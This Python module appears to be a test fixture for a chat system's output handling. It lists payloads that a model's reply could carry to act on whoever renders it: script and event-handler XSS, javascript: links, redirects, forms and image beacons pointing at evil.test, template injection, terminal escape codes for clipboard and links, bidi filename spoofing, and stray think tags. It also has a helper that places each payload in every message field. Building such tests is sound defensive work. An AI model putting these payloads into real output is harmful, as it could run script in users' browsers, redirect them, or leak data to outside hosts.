"""Texts that a model may write to act on whoever reads them: as HTML, script, Markdown, address or terminal escape."""

from __future__ import annotations

import json

RAN = "window.owned = true"
# by what it would be if it were read as that
ATTACKS: dict[str, str] = {
    "a script": f"<script>{RAN}</script>",
    "a script that ends another": f"</script><script>{RAN}</script>",
    "a comment that hides a script": f"<!--<script>{RAN}",
    "a picture that fails": f'<img src=x onerror="{RAN}">',
    "a picture of an address": "<img src=http://evil.test/pixel.png>",
    "a drawing": f'<svg onload="{RAN}"><script>{RAN}</script></svg>',
    "a frame": f'<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>',
    "a style": "<style>@import 'http://evil.test/x.css'; body { display: none }</style>",
    "a link": '<a href="javascript:window.owned=true">sure</a>',
    "a base": '<base href="http://evil.test/">',
    "a refresh": '<meta http-equiv="refresh" content="0;url=http://evil.test/">',
    "a form": '<form action="http://evil.test/"><input name=q autofocus></form>',
    "a template": "${window.owned = true} {{constructor.constructor('window.owned=true')()}}",
    "Markdown's picture": "![x](http://evil.test/pixel.png)",
    "Markdown's link": "[x](javascript:window.owned=true) <http://evil.test>",
    "a picture in an address": "data:image/png;base64,iVBORw0KGgo=",
    "a page in an address": "data:text/html,<script>window.owned=true</script>",
    "a title of a terminal": "\x1b]0;owned\x07",
    "a clipboard of a terminal": "\x1b]52;c;b3duZWQ=\x07",
    "a cleared screen": "\x1b[2J\x1b[1;1H\x9b2J",
    "a link of a terminal": "\x1b]8;;http://evil.test\x07sure\x1b]8;;\x07",
    "writing that turns round": "safe\u202eexe.gnp\u202c \u2066x\u2069",
    "thinking that never ends": "<think>and so on",
    "thinking in thinking": "<think><think></think><img src=x onerror=window.owned=true>",
    "markup of a console": "[red]owned[/red][link=http://evil.test]x[/link]",
    "a prototype": "__proto__",
    "half a tag": "\"><'`&lt;script&gt;&#60;script&#62;",
}


def dialogue(text: str) -> str:
    """Messages that hold the text in every place of a message."""
    call = {"type": "function", "function": {"name": text, "arguments": text}}
    return json.dumps(
        [
            {"role": "user", "content": "2+3="},
            {"role": "assistant", "content": text, "reasoning_content": text, "tool_calls": [call]},
            {"role": text, "content": text},
            {
                "role": "assistant",
                "content": [
                    {"type": "image_url", "image_url": {"url": text}},
                    {"type": "text", "text": text},
                ],
            },
        ]
    )
